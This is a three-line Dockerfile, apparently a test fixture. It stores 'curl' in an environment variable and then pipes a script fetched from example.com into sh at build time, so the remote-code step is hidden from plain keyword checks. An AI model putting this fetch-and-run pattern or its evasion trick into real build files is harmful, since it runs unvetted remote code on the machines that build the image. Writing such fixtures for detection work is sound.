FROM debian:bookworm-slim
ENV GET=curl
RUN $GET https://example.com/i | sh
